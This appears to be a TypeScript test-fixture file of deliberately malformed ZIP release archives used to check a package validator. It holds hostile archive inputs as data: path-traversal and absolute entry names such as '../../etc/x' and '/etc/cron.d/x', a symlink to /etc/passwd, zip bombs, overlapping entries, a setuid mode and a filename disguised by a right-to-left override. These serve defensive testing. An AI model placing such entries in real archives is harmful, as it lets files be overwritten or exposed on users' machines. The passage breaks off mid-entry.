/**
 * Seeded defects: each is a function from a good release to one where just that is wrong, with every other checksum sealed
 * anew, and says which rules must report it; no other may.
 */
import { generateKeyPairSync } from "node:crypto";
import { constants, crc32, deflateRawSync, inflateRawSync } from "node:zlib";
import { chmodSync, linkSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { execFileSync } from "node:child_process";
import { join } from "node:path";
import type { Expected } from "../../src/validator/index.ts";
import { sha256 } from "../../src/storage/digest.ts";
import { dynamicElf, elfProgram, machOProgram, peProgram, universal } from "../binaries/samples.ts";
import { noise } from "../candidate/tiny-candidate.ts";
import { plain, program, type Built, type Changes, type Release } from "./release.ts";
import type { MadeEntry, MadeZip } from "./zip-maker.ts";
import type { Platform, Product } from "../../src/products/index.ts";

export interface Defect extends Changes {
  name: string;
  /** exactly the rules that report it */
  rules: string[];
  product?: Product;
  platform?: Platform;
  expected?: Expected;
  upstream?: boolean;
  /** judged beside what our writer makes of the contents */
  canonical?: boolean;
  /** the archive's file name, instead of its own */
  fileName?: string;
  /** files beside the archive, by name */
  beside?: (built: Built) => Record<string, string>;
  /** names of folders in the place of files beside it */
  besideFolders?: (built: Built) => string[];
  /** judged unpacked, or installed, after this was done to the folder */
  folder?: (folder: string) => void;
  installed?: boolean;
  /** needs a user or system that allows what the defect is made of */
  when?: () => boolean;
}

const file = (release: Release, path: string, data: string | Buffer = path, mode = 0o644): void =>
  void release.files.set(path, { mode, data: Buffer.from(data as string) });
const named = (name: string, more: Partial<MadeEntry> = {}): Changes => ({
  release: (r) => file(r, name, "x"),
  zip: (z) => void Object.assign(entry(z, name), more),
});
function entry(zip: MadeZip, path: string): MadeEntry {
  const found = zip.entries.find((e) => e.path === path);
  if (!found) throw new Error(`there is no ${path}`);
  return found;
}
const alter =
  (path: string, more: Partial<MadeEntry>) =>
  (zip: MadeZip): void =>
    void Object.assign(entry(zip, path), more);
const within =
  (path: string, change: (e: MadeEntry) => Partial<MadeEntry>) =>
  (zip: MadeZip): void =>
    void Object.assign(entry(zip, path), change(entry(zip, path)));
/** Adds an entry in its place of the order, after everything was sealed. */
const smuggle =
  (more: MadeEntry) =>
  (zip: MadeZip): void => {
    zip.entries.push(more);
    zip.entries.sort((a, b) => Buffer.compare(Buffer.from(a.path as string), Buffer.from(b.path as string)));
  };
const big = Buffer.alloc(3 << 20, "0123456789abcdef");
/** What our writer makes of contents past its blocks of 1 MiB; with a bit set that nobody reads, where one is free in the last byte. */
function ours(data: Buffer, free: boolean): Buffer {
  const blocks: Buffer[] = [];
  for (let at = 0; at < data.length; at += 1 << 20) {
    const last = at + (1 << 20) >= data.length;
    blocks.push(
      deflateRawSync(data.subarray(at, at + (1 << 20)), {
        level: 6,
        memLevel: 8,
        finishFlush: last ? constants.Z_FINISH : constants.Z_SYNC_FLUSH,
        ...(at > 0 && { dictionary: data.subarray(at - (1 << 15), at) }),
      }),
    );
  }
  const packed = Buffer.concat(blocks);
  if (free) packed[packed.length - 1]! |= 0x80;
  if (!inflateRawSync(packed).equals(data)) throw new Error("the last bit is not free");
  return packed;
}
/** What may stand behind an entry's data, of our own packing or another's. */
function descriptor(data: Buffer, { signed = true, long = false }): Buffer {
  const [crc, packed] = [crc32(data), deflateRawSync(data, { level: 7 }).length];
  const bytes = Buffer.alloc(long ? 24 : 16);
  bytes.writeUInt32LE(0x08074b50, 0);
  bytes.writeUInt32LE(crc, 4);
  bytes.writeUInt32LE(packed, 8);
  bytes.writeUInt32LE(long ? 0 : data.length, 12);
  if (long) bytes.writeUInt32LE(data.length, 16);
  return signed ? bytes : bytes.subarray(4);
}
const privateKey = generateKeyPairSync("ed25519").privateKey.export({ type: "pkcs8", format: "pem" }) as string;
/** A program past what is read at once, whose dynamic segment is at its end. */
function largeProgram(library: string): Buffer {
  return dynamicElf({
    needed: ["libc.so.6", library],
    runpath: noise(9, 1_500_000).toString("latin1").replaceAll("\0", "x"),
  });
}
/** What our packer writes beside an archive of the test's products for Linux, changed. */
function binariesBeside({ base, files }: Built, change: (text: string) => string): Record<string, string> {
  const names = ["palyrad", "palyra-browserd", "palyra"].filter((name) => files.has(name));
  const binaries = names.map((name) => ({
    logical_name: name,
    file_name: name,
    format: "elf",
    os: "linux",
    architectures: ["x64"],
    interpreter: null,
    libraries: [],
    glibc: null,
    signature: null,
    fault: null,
    findings: [],
  }));
  const text = `${JSON.stringify({ schema_version: 1, artifact_name: base, platform: "linux-x64", targets: ["linux-x64/debian-12"], binaries }, undefined, 2)}\n`;
  const changed = change(text);
  return { [`${base}.binaries.json`]: changed };
}
const locator = Buffer.alloc(20);
locator.writeUInt32LE(0x07064b50, 0);
const asRoot = (): boolean => process.getuid?.() === 0;

/** A path longer than any call takes can only be made of two that are shorter. */
function tooDeep(folder: string): void {
  const half = Array.from({ length: 9 }, () => "d".repeat(250)).join("/");
  for (const top of ["one", "two"]) mkdirSync(join(folder, top, half), { recursive: true });
  renameSync(join(folder, "two"), join(folder, "one", half, "two"));
}

const container: Defect[] = [
  { name: "no ZIP at all", rules: ["zip-end"], bytes: () => Buffer.from("#!/bin/sh\n".repeat(40)) },
  { name: "an empty file", rules: ["zip-end"], bytes: () => Buffer.alloc(0) },
  { name: "cut short in its end record", rules: ["zip-end"], bytes: (b) => b.subarray(0, -3) },
  { name: "cut short by half", rules: ["zip-end"], bytes: (b) => b.subarray(0, b.length / 2) },
  { name: "a comment that is cut short", rules: ["zip-end"], zip: (z) => void (z.end = { commentLength: 7 }) },
  { name: "an end on another disk", rules: ["zip-disks"], zip: (z) => void (z.end = { disk: 1 }) },
  { name: "fewer entries on this disk than in all", rules: ["zip-disks"], zip: (z) => void (z.end = { here: 3 }) },
  { name: "a ZIP64 locator before the end record", rules: ["zip64"], zip: (z) => void (z.beforeEnd = locator) },
  { name: "sizes that send readers to ZIP64", rules: ["zip64"], zip: (z) => void (z.end = { offset: 0xffffffff }) },
  {
    name: "a directory that is said to begin earlier",
    rules: ["directory-place", "directory-count"],
    zip: (z) => void (z.end = { offset: 0, size: 10 }),
  },
  {
    name: "bytes between directory and end",
    rules: ["directory-place"],
    zip: (z) => void (z.beforeEnd = Buffer.from("hidden!")),
  },
  {
    name: "bytes in the directory behind its entries",
    rules: ["directory-count"],
    zip: (z) => void (z.inDirectory = Buffer.from("PK\x05\x05\x03\0sig")),
  },
  {
    name: "a count that is too high",
    rules: ["directory-count"],
    zip: (z) => void (z.end = { count: z.entries.length + 2 }),
  },
  {
    name: "a count that is too low",
    rules: ["directory-count"],
    zip: (z) => void (z.end = { count: z.entries.length - 1 }),
  },
  {
    name: "a program before it, not counted by its offsets",
    rules: ["prepended-bytes"],
    zip: (z) => void (z.prefix = Buffer.from("#!/bin/sh\nexit\n")),
  },
  {
    name: "a program before it, counted by its offsets",
    rules: ["prepended-bytes"],
    zip: (z) => void Object.assign(z, { prefix: Buffer.from("#!/bin/sh\nexit\n"), prefixCounted: true }),
  },
  { name: "a line feed behind the end", rules: ["trailing-bytes"], zip: (z) => void (z.suffix = Buffer.from("\n")) },
  { name: "a comment", rules: ["archive-comment"], zip: (z) => void (z.comment = Buffer.from("hello")) },
  {
    name: "an entry that is in the bytes and not in the directory",
    rules: ["hidden-bytes"],
    zip: (z) => void (z.beforeDirectory = Buffer.from("PK\x03\x04 and so on")),
  },
  {
    name: "bytes between two entries",
    rules: ["hidden-bytes"],
    zip: alter("README.txt", { before: Buffer.from("hidden") }),
  },
  // The second entry's data is the first one's: what makes bombs of a few kilobytes unpack to terabytes.
  {
    name: "an entry whose data are another's, under its name",
    rules: ["overlap", "hidden-bytes", "local-header", "checksums-complete"],
    zip: smuggle({
      path: "LICENSE2.txt",
      mode: 0o644,
      data: Buffer.from("Do what you like.\n"),
      central: { offset: 0 },
    }),
  },
  {
    name: "65,001 entries",
    rules: ["limit-entries"],
    zip: (z) =>
      void (z.entries = Array.from({ length: 65_001 }, (_, n) => ({
        path: `f${n}`,
        mode: 0o644,
        data: Buffer.alloc(0),
      }))),
  },
  {
    name: "more than 4 GiB, as stated",
    rules: ["limit-total"],
    zip: alter("docs/Ünïcode.txt", { packed: Buffer.from([3, 0]), both: { size: 0xfffffffe, compressedSize: 2 } }),
  },
  { name: "a bomb", rules: ["limit-ratio"], release: (r) => file(r, "README.txt", Buffer.alloc(3 << 20)) },
  {
    name: "a manifest that is too large",
    rules: ["limit-text"],
    release: (r) => file(r, "release-manifest.json", Buffer.concat([big, big])),
    zip: within("release-manifest.json", (e) => ({ packed: deflateRawSync(e.data, { level: 0 }) })),
  },
  {
    name: "a unit that is too large",
    rules: ["limit-text"],
    release: (r) => file(r, "deployment/single-vm/systemd/big.service", "#".repeat(70_000)),
  },
  {
    name: "units without end",
    rules: ["limit-text"],
    release: (r) =>
      Array.from({ length: 65 }, (_, n) =>
        file(r, `deployment/single-vm/systemd/${n}.service`, "[Service]\nExecStart=/opt/palyra/palyrad\n"),
      ),
  },
  {
    name: "checksums that are too large",
    rules: ["limit-text"],
    checksums: (t) => t.padEnd(17 << 20, "\n"),
    zip: within("checksums.txt", (e) => ({ packed: deflateRawSync(e.data, { level: 0 }) })),
  },
];

const entries: Defect[] = [
  {
    name: "another name before the data",
    rules: ["local-header"],
    zip: alter("README.txt", { localPath: "README.exe" }),
  },
  {
    name: "a longer name before the data",
    rules: ["local-header"],
    zip: alter("README.txt", { localPath: "README.txt.exe" }),
  },
  {
    name: "another method before the data",
    rules: ["local-header"],
    zip: alter("README.txt", { local: { method: 0 } }),
  },
  { name: "another size before the data", rules: ["local-header"], zip: alter("README.txt", { local: { size: 5 } }) },
  {
    name: "another date before the data",
    rules: ["local-header"],
    zip: alter("README.txt", { local: { date: 0x21 } }),
  },
  { name: "other flags before the data", rules: ["local-header"], zip: alter("README.txt", { local: { flags: 0 } }) },
  {
    name: "a place without a local header",
    rules: ["local-header"],
    zip: alter("README.txt", { central: { offset: 3 } }),
  },
  {
    name: "a place behind the end",
    rules: ["local-header"],
    zip: alter("README.txt", { central: { offset: 0x7fffffff } }),
  },
  {
    name: "data that end behind the end",
    rules: ["local-header"],
    zip: alter("web/index.html", { both: { compressedSize: 0x7ffffff0 }, descriptor: Buffer.alloc(16) }),
  },
  {
    name: "a descriptor without its signature",
    rules: ["data-descriptor"],
    zip: within("README.txt", ({ data }) => ({ descriptor: descriptor(data, { signed: false }) })),
  },
  {
    name: "descriptors without signatures throughout",
    rules: ["data-descriptor"],
    zip: (z) => z.entries.forEach((e) => (e.descriptor = descriptor(e.data, { signed: false }))),
  },
  {
    name: "a descriptor of ZIP64",
    rules: ["data-descriptor"],
    zip: within("README.txt", ({ data }) => ({ descriptor: descriptor(data, { long: true }) })),
  },
  {
    name: "a descriptor of ZIP64 without its signature",
    rules: ["data-descriptor"],
    zip: within("README.txt", ({ data }) => ({ descriptor: descriptor(data, { signed: false, long: true }) })),
  },
  {
    name: "a descriptor that is announced and not there",
    rules: ["data-descriptor"],
    zip: alter("README.txt", { descriptor: Buffer.alloc(0) }),
  },
  {
    name: "another CRC-32 behind the data",
    rules: ["data-descriptor"],
    zip: alter("README.txt", { descriptor: Buffer.from("PK\x07\x08 not what is") }),
  },
  { name: "an encrypted entry", rules: ["encrypted"], zip: alter("README.txt", { both: { flags: 9 } }) },
  { name: "an entry of strong encryption", rules: ["encrypted"], zip: alter("README.txt", { both: { flags: 0x49 } }) },
  { name: "an entry compressed by bzip2", rules: ["method"], zip: alter("README.txt", { both: { method: 12 } }) },
  {
    name: "compressed data that are none",
    rules: ["deflate"],
    zip: alter("README.txt", { packed: Buffer.from([0xff, 0xff, 0xff]) }),
  },
  {
    name: "compressed data that are cut",
    rules: ["deflate"],
    zip: within("RELEASE_NOTES.txt", (e) => ({ packed: deflateRawSync(e.data).subarray(0, 8) })),
  },
  {
    name: "bytes behind the compressed data",
    rules: ["deflate"],
    zip: within("README.txt", (e) => ({ packed: Buffer.concat([deflateRawSync(e.data), Buffer.from("hidden")]) })),
  },
  {
    name: "bytes behind large compressed data",
    rules: ["deflate"],
    release: (r) => file(r, "README.txt", big),
    zip: within("README.txt", (e) => ({
      packed: Buffer.concat([deflateRawSync(e.data, { level: 0 }), Buffer.alloc(4 << 20)]),
    })),
  },
  {
    name: "more bytes than stated",
    rules: ["declared-size"],
    zip: within("README.txt", (e) => ({ both: { size: e.data.length - 1 } })),
  },
  {
    name: "far more bytes than stated",
    rules: ["declared-size"],
    zip: alter("README.txt", { packed: deflateRawSync(big, { level: 0 }), both: { size: 2 << 20 } }),
  },
  {
    name: "fewer bytes than stated",
    rules: ["declared-size"],
    zip: within("README.txt", (e) => ({ both: { size: e.data.length + 1 } })),
  },
  {
    name: "fewer stored bytes than stated",
    rules: ["declared-size", "header-form"],
    zip: within("README.txt", (e) => ({ packed: e.data, both: { method: 0, size: e.data.length + 1 } })),
  },
  { name: "another CRC-32 than stated", rules: ["crc"], zip: alter("README.txt", { both: { crc: 1 } }) },
  {
    name: "an extra field in the directory",
    rules: ["extra-field"],
    zip: alter("README.txt", { extra: Buffer.from("UT\x05\0\x03abcd") }),
  },
  {
    name: "an extra field before the data",
    rules: ["extra-field"],
    zip: alter("README.txt", { localExtra: Buffer.from("UT\x05\0\x03abcd") }),
  },
  {
    name: "a Unicode path in an extra field",
    rules: ["extra-field"],
    zip: alter("README.txt", { extra: Buffer.from("up\x09\0\x01\0\0\0\0evil") }),
  },
  { name: "a comment on an entry", rules: ["entry-comment"], zip: alter("README.txt", { comment: "hello" }) },
  {
    name: "made by another version",
    rules: ["header-form"],
    zip: alter("README.txt", { central: { madeBy: 0x0314 } }),
  },
  { name: "said to be text", rules: ["header-form"], zip: alter("README.txt", { central: { internal: 1 } }) },
  {
    name: "no descriptor where ours has one",
    rules: ["header-form"],
    zip: alter("README.txt", { both: { flags: 0 } }),
  },
  { name: "an entry on another disk", rules: ["header-form"], zip: alter("README.txt", { central: { disk: 1 } }) },
  {
    name: "an entry that is stored",
    rules: ["header-form"],
    zip: within("README.txt", (e) => ({ packed: e.data, both: { method: 0 } })),
  },
  {
    name: "contents that are compressed harder",
    rules: ["canonical-bytes"],
    canonical: true,
    zip: within("RELEASE_NOTES.txt", (e) => ({
      packed: deflateRawSync(e.data, { level: 9, memLevel: 9, strategy: constants.Z_FIXED }),
    })),
  },
  {
    name: "contents that are stored within compressed data",
    rules: ["canonical-bytes"],
    canonical: true,
    zip: within("README.txt", (e) => ({ packed: deflateRawSync(e.data, { level: 0 }) })),
  },
  {
    name: "a message in the bits that fill up bytes",
    rules: ["canonical-bytes"],
    canonical: true,
    zip: within("README.txt", (e) => ({
      packed: Buffer.concat([Buffer.from([0xa8, 0, 0, 0xff, 0xff]), deflateRawSync(e.data)]),
    })),
  },
  {
    name: "a bit in the last byte of large compressed data",
    rules: ["canonical-bytes"],
    canonical: true,
    release: (r) => file(r, "README.txt", Buffer.from(big.map((byte, n) => (byte + (n >> 9)) & 0xff))),
    zip: within("README.txt", (e) => ({ packed: ours(e.data, true) })),
  },
  {
    name: "an entry with a date of its own",
    rules: ["entry-date"],
    zip: alter("README.txt", { both: { date: 0x21, time: 0 } }),
  },
  {
    name: "dates in local time",
    rules: ["entry-date"],
    zip: (z) => void (z.date = new Date(z.date.getTime() + 3_600_000)),
  },
  { name: "entries out of order", rules: ["entry-order"], zip: (z) => void z.entries.reverse() },
];

const names: Defect[] = [
  { name: "an absolute name", rules: ["name-absolute"], ...named("/etc/cron.d/x") },
  { name: "a drive", rules: ["name-absolute"], ...named("C:x") },
  { name: "a name that climbs out", rules: ["name-traversal"], ...named("../../etc/x") },
  { name: "a name that climbs out by a backslash", rules: ["name-traversal", "name-backslash"], ...named("..\\x") },
  { name: "a second name for a file", rules: ["name-traversal"], ...named("web/./x") },
  { name: "a share on another host", rules: ["name-absolute", "name-backslash"], ...named("\\\\host\\x") },
  { name: "a backslash", rules: ["name-backslash"], ...named("web\\x") },
  {
    name: "a name that is not UTF-8",
    rules: ["name-encoding", "checksums-complete"],
    zip: smuggle({ path: Buffer.from([0x61, 0xff]), mode: 0o644, data: Buffer.from("x") }),
  },
  {
    name: "a name of an unknown alphabet",
    rules: ["name-encoding", "header-form", "checksums-complete", "checksums-files"],
    zip: alter("docs/Ünïcode.txt", { both: { flags: 8 } }),
  },
  { name: "a device of Windows", rules: ["name-portable"], ...named("web/aux.txt") },
  { name: "a colon, for a second stream of a file", rules: ["name-portable"], ...named("web/x:y") },
  { name: "a dot at the end", rules: ["name-portable"], ...named("web/x.") },
  { name: "a control character", rules: ["name-portable"], ...named("web/\u0007x") },
  { name: "an empty segment", rules: ["name-portable"], ...named("web//x") },
  { name: "a name that turns the writing direction", rules: ["name-portable"], ...named("web/\u202egpj.exe") },
  { name: "a name that is not in normal form C", rules: ["name-portable"], ...named("web/u\u0308") },
  { name: "a name of 300 bytes", rules: ["name-portable"], ...named(`web/${"x".repeat(300)}`) },
  {
    name: "a name twice, with equal contents",
    rules: ["name-duplicate"],
    zip: (z) => z.entries.splice(3, 0, z.entries[2]!),
  },
  {
    name: "a name twice, with other contents",
    rules: ["name-duplicate", "checksums-digests"],
    zip: smuggle({ path: "README.txt", mode: 0o644, data: Buffer.from("Something else.\n") }),
  },
  { name: "names that differ in case", rules: ["name-collision"], ...named("web/INDEX.html") },
  {
    name: "names that differ in how a letter is written in capitals",
    rules: ["name-collision"],
    release: (r) => (file(r, "web/straße.txt"), file(r, "web/strasse.txt")),
  },
  {
    name: "a path that is too long where it is unpacked on Windows",
    platform: "windows-x64",
    rules: ["name-length"],
    ...named(`web/${"x".repeat(180)}`),
  },
  {
    name: "a folder that is too long where it is unpacked on Windows",
    platform: "windows-x64",
    rules: ["name-length"],
    ...named(`web/${"x".repeat(172)}/a`),
  },
  {
    name: "names that differ in a Unicode form",
    rules: ["name-collision"],
    release: (r) => (file(r, "web/ﬁ"), file(r, "web/fi")),
  },
  { name: "a file that is also a folder", rules: ["name-collision"], ...named("README.txt/x") },
  {
    name: "a symbolic link",
    rules: ["entry-symlink"],
    zip: smuggle({ path: "web/link", mode: 0o777, type: 0o120000, data: Buffer.from("/etc/passwd") }),
  },
  {
    name: "a device",
    rules: ["entry-special"],
    zip: smuggle({ path: "web/null", mode: 0o666, type: 0o020000, data: Buffer.alloc(0) }),
  },
  {
    name: "an entry for a folder",
    rules: ["entry-folder"],
    zip: smuggle({ path: "docs/", mode: 0o755, type: 0o040000, data: Buffer.alloc(0) }),
  },
  { name: "a mode for the group to write", rules: ["mode"], zip: alter("README.txt", { mode: 0o664 }) },
  { name: "a program that runs as its owner", rules: ["mode"], zip: alter("palyrad", { mode: 0o4755 }) },
  {
    name: "a mode without the type of a file",
    rules: ["mode"],
    zip: alter("README.txt", { central: { external: ((0o644 << 16) | 0x20) >>> 0 } }),
  },
  { name: "no Unix mode", rules: ["mode", "header-form"], zip: alter("README.txt", { central: { madeBy: 20 } }) },
  { name: "a program that nobody may execute", rules: ["executable-bit"], zip: alter("palyrad", { mode: 0o644 }) },
  { name: "a text that may be executed", rules: ["executable-bit"], zip: alter("README.txt", { mode: 0o755 }) },
  {
    name: "a script that nobody may execute",
    rules: ["executable-bit"],
    release: (r) => file(r, "web/serve.sh", Buffer.from("#!/bin/sh\n")),
    zip: alter("web/serve.sh", { mode: 0o644 }),
  },
];

const manifest: Defect[] = [
  {
    name: "no manifest",
    rules: ["manifest-present"],
    checksums: (t) => t.replace(/.*release-manifest\.json\n/, ""),
    zip: (z) =>
      void z.entries.splice(
        z.entries.findIndex((e) => e.path === "release-manifest.json"),
        1,
      ),
  },
  { name: "a manifest that is no JSON", rules: ["manifest-json"], manifestText: () => "{" },
  {
    name: "a manifest that nests thousands deep",
    rules: ["manifest-json"],
    manifestText: () => "[".repeat(50_000) + "]".repeat(50_000),
  },
  {
    name: "a manifest that is not UTF-8",
    rules: ["manifest-json"],
    release: (r) => file(r, "release-manifest.json", Buffer.from([0x22, 0xff, 0x22])),
  },
  { name: "a manifest of another schema", rules: ["manifest-schema"], manifest: (m) => void (m["schema_version"] = 2) },
  { name: "a version that is none", rules: ["manifest-schema"], manifest: (m) => void (m["version"] = "1.2") },
  {
    name: "a digest in capitals",
    rules: ["manifest-schema"],
    manifest: (m) => void (m.binaries[0]!["sha256"] = String(m.binaries[0]!["sha256"]).toUpperCase()),
  },
  { name: "another install mode", rules: ["manifest-schema"], manifest: (m) => void (m["install_mode"] = "portable") },
  {
    name: "a field twice",
    rules: ["manifest-canonical"],
    manifestText: (t) => t.replace('  "version"', '  "version": "6.6.6",\n  "version"'),
  },
  { name: "a byte order mark", rules: ["manifest-json"], manifestText: (t) => `\ufeff${t}` },
  {
    name: "carriage returns in the manifest",
    rules: ["manifest-canonical"],
    manifestText: (t) => t.replaceAll("\n", "\r\n"),
  },
  {
    name: "a product that nobody knows",
    rules: ["product-known", "file-name"],
    manifest: (m) => void (m.artifact_name = "gnats-headless-1.2.3-linux-x64"),
  },
  {
    name: "a kind that there is none of",
    rules: ["kind-known", "artifact-name"],
    manifest: (m) => void (m["artifact_kind"] = "server"),
  },
  { name: "another kind than was asked for", rules: ["kind-expected"], expected: { kind: "desktop" } },
  { name: "another version than was asked for", rules: ["release-expected"], expected: { version: "1.2.4" } },
  { name: "another platform than was asked for", rules: ["release-expected"], expected: { platform: "linux-arm64" } },
  { name: "another product than was asked for", rules: ["release-expected"], expected: { product: "nats" } },
  {
    name: "a version that its name does not have",
    rules: ["artifact-name"],
    manifest: (m) => void (m["version"] = "1.2.4"),
  },
  { name: "a file that was renamed", rules: ["file-name"], fileName: "palyra-headless-1.2.4-linux-x64.zip" },
  {
    name: "a time without its seven digits",
    rules: ["generated-at"],
    manifest: (m) => void (m["generated_at_utc"] = "2026-01-31T12:34:57Z"),
  },
  {
    name: "a time that there is none of",
    rules: ["generated-at", "entry-date"],
    manifest: (m) => void (m["generated_at_utc"] = "2026-01-31T12:34:77.0000000Z"),
    zip: (z) => void Object.assign(entry(z, "README.txt"), { both: { time: 0 } }),
  },
  { name: "a commit that is none", rules: ["source-sha"], manifest: (m) => void (m["source_sha"] = "main") },
  { name: "a commit cut short", rules: ["source-sha"], manifest: (m) => void (m["source_sha"] = "0123456789ab") },
  {
    name: "other patterns than the product's",
    rules: ["excluded-patterns"],
    manifest: (m) => void m.packaging_boundaries.excluded_patterns.reverse(),
  },
  {
    name: "too few recipes",
    rules: ["recipes-count"],
    release: (r) =>
      [...r.files.keys()]
        .filter((p) => /worker-enabled\/(env|release|systemd)/.test(p))
        .forEach((p) => r.files.delete(p)),
  },
  {
    name: "a recipe file that is not listed",
    rules: ["recipe-files"],
    release: (r) => file(r, "deployment/single-vm/more.txt"),
    manifest: (m) =>
      void (m.deployment_recipes = m.deployment_recipes.filter(
        (f) => !String(f["relative_path"]).endsWith("more.txt"),
      )),
  },
  {
    name: "a recipe file that is not there",
    rules: ["recipe-files"],
    manifest: (m) =>
      void m.deployment_recipes.push({
        profile: "single-vm",
        relative_path: "deployment/single-vm/none",
        sha256: "0".repeat(64),
        size_bytes: 1,
      }),
  },
  {
    name: "a recipe file of another profile",
    rules: ["recipe-files"],
    manifest: (m) => void (m.deployment_recipes[0]!["profile"] = "local"),
  },
  {
    name: "a recipe file twice",
    rules: ["recipe-files"],
    manifest: (m) => void m.deployment_recipes.push(m.deployment_recipes[0]!),
  },
  {
    name: "a recipe file of another digest",
    rules: ["recipe-digests"],
    manifest: (m) => void (m.deployment_recipes[0]!["sha256"] = "0".repeat(64)),
  },
  {
    name: "a recipe file of another size",
    rules: ["recipe-digests"],
    manifest: (m) => void (m.deployment_recipes[0]!["size_bytes"] = 0),
  },
];

const programs: Defect[] = [
  {
    name: "a program that is missing",
    rules: ["required-binaries"],
    release: (r) => void r.files.delete("palyra-browserd"),
  },
  {
    name: "a program by its Linux name in an archive for Windows",
    platform: "windows-x64",
    rules: ["required-binaries"],
    release: (r) => {
      r.files.set("palyra", r.files.get("palyra.exe")!);
      r.files.delete("palyra.exe");
    },
  },
  {
    name: "a program that the manifest does not list",
    rules: ["manifest-binaries", "unlisted-binaries"],
    manifest: (m) => void m.binaries.pop(),
  },
  { name: "programs in another order", rules: ["manifest-binaries"], manifest: (m) => void m.binaries.reverse() },
  {
    name: "a program by another logical name",
    rules: ["manifest-binaries"],
    manifest: (m) => void (m.binaries[0]!["logical_name"] = "daemon"),
  },
  {
    name: "a program of another digest",
    rules: ["binary-digests"],
    manifest: (m) => void (m.binaries[0]!["sha256"] = "0".repeat(64)),
  },
  {
    name: "a program of another size",
    rules: ["binary-digests"],
    manifest: (m) => void (m.binaries[0]!["size_bytes"] = 1),
  },
  {
    name: "a program too many",
    rules: ["unlisted-binaries"],
    release: (r) => file(r, "palyra-workerd", program("linux-x64", "palyra-workerd"), 0o755),
  },
  {
    name: "a program too many, for another system, hidden in a folder",
    rules: ["unlisted-binaries"],
    release: (r) => file(r, "web/logo.png", program("windows-x64", "x"), 0o755),
  },
  {
    name: "a program for another processor",
    rules: ["binary-platform"],
    release: (r) => file(r, "palyrad", program("linux-arm64", "palyrad"), 0o755),
  },
  {
    name: "a program for another system",
    rules: ["binary-platform"],
    release: (r) => file(r, "palyrad", program("macos-arm64", "palyrad"), 0o755),
  },
  {
    name: "a program for another processor, for Windows",
    platform: "windows-x64",
    rules: ["binary-platform"],
    release: (r) => {
      const exe = program("windows-x64", "x");
      exe.writeUInt16LE(0x014c, 132);
      file(r, "palyra.exe", exe, 0o755);
    },
  },
  {
    name: "a program for another processor, for macOS",
    platform: "macos-arm64",
    rules: ["binary-platform"],
    release: (r) => file(r, "palyra", program("macos-x64", "palyra"), 0o755),
  },
  {
    name: "a program for another processor, of a product without payload rules",
    product: plain,
    rules: ["binary-platform"],
    release: (r) => file(r, "nats", program("linux-arm64", "nats"), 0o755),
  },
  {
    name: "a program of FreeBSD",
    rules: ["binary-platform"],
    release: (r) => file(r, "palyrad", elfProgram({ abi: 9 }), 0o755),
  },
  {
    name: "an object of a compiler in the place of a program",
    rules: ["binary-starts"],
    release: (r) => file(r, "palyrad", elfProgram({ type: 1 }), 0o755),
  },
  {
    name: "a shared library in the place of a program",
    rules: ["binary-starts"],
    release: (r) => file(r, "palyrad", dynamicElf({ shared: true }), 0o755),
  },
  {
    name: "a program that needs a newer glibc than its target has",
    rules: ["binary-starts"],
    release: (r) => file(r, "palyrad", dynamicElf({ glibc: "2.38" }), 0o755),
  },
  {
    name: "a program of musl",
    rules: ["binary-starts"],
    release: (r) =>
      file(r, "palyrad", dynamicElf({ needed: ["libc.so.6"], interpreter: "/lib/ld-musl-x86_64.so.1" }), 0o755),
  },
  {
    name: "a program that needs a library of no target",
    rules: ["binary-starts"],
    release: (r) => file(r, "palyrad", dynamicElf({ needed: ["libown.so.1"] }), 0o755),
  },
  {
    name: "a program that needs it, of a product without payload rules",
    product: plain,
    rules: ["binary-starts"],
    release: (r) => file(r, "nats", dynamicElf({ needed: ["libown.so.1"] }), 0o755),
  },
  {
    name: "a program that lost its end",
    rules: ["binary-starts"],
    release: (r) => file(r, "palyrad", elfProgram({ length: 400 }).subarray(0, 399), 0o755),
  },
  {
    name: "a large program that needs a library of no target",
    rules: ["binary-starts"],
    release: (r) => file(r, "palyrad", largeProgram("libown.so.1"), 0o755),
  },
  {
    name: "a large program that needs it, stored",
    rules: ["binary-starts", "header-form"],
    release: (r) => file(r, "palyrad", largeProgram("libown.so.1"), 0o755),
    zip: within("palyrad", ({ data }) => ({ packed: data, both: { method: 0 } })),
  },
  {
    name: "an unsigned program of macOS on arm64",
    platform: "macos-arm64",
    rules: ["binary-starts"],
    release: (r) => file(r, "palyrad", machOProgram({ seal: "none" }), 0o755),
  },
  {
    name: "a universal program whose part for the platform is unsigned",
    platform: "macos-arm64",
    rules: ["binary-starts"],
    release: (r) =>
      file(r, "palyrad", universal(machOProgram({ processor: 0x01000007 }), machOProgram({ seal: "none" })), 0o755),
  },
  {
    name: "a program of iOS",
    platform: "macos-arm64",
    rules: ["binary-starts"],
    release: (r) => file(r, "palyrad", machOProgram({ platform: 2 }), 0o755),
  },
  {
    name: "a DLL named .exe",
    platform: "windows-x64",
    rules: ["binary-starts"],
    release: (r) => file(r, "palyrad.exe", peProgram({ dll: true }), 0o755),
  },
  {
    name: "a library that no program looks for",
    rules: ["unlisted-binaries"],
    release: (r) => file(r, "lib/libown.so.1", dynamicElf({ shared: true }), 0o755),
  },
  {
    name: "an installed program that needs a newer glibc",
    rules: ["binary-starts"],
    release: (r) => file(r, "palyrad", dynamicElf({ glibc: "2.38" }), 0o755),
    folder: () => undefined,
  },
  {
    name: "a script with a carriage return in its first line",
    rules: ["script-starts"],
    release: (r) => file(r, "deployment/single-vm/run.sh", "#!/bin/sh\r\necho\r\n", 0o755),
  },
  {
    name: "a script with a byte order mark",
    product: plain,
    rules: ["script-starts"],
    release: (r) => file(r, "tools/run.sh", "\ufeff#!/bin/sh\n", 0o755),
  },
  {
    name: "a script of an interpreter that is not absolute",
    product: plain,
    rules: ["script-starts"],
    release: (r) => file(r, "tools/run", "#!sh\n", 0o755),
  },
  {
    name: "a script of an interpreter that the target has not",
    product: plain,
    rules: ["script-starts"],
    release: (r) => file(r, "tools/run", "#!/usr/bin/env python3\n", 0o755),
  },
  {
    name: "a script in the place of a program, with a carriage return",
    product: plain,
    rules: ["script-starts"],
    release: (r) => file(r, "nats", "#!/bin/sh\r\n", 0o755),
  },
  {
    name: "an unpacked script with a carriage return",
    product: plain,
    rules: ["script-starts"],
    release: (r) => file(r, "tools/run", "#!/bin/sh\r\n", 0o755),
    folder: () => undefined,
  },
  {
    name: "a unit for a program that does not exist",
    rules: ["unit-programs"],
    release: (r) =>
      file(
        r,
        "deployment/worker-enabled/systemd/palyra-workerd.service",
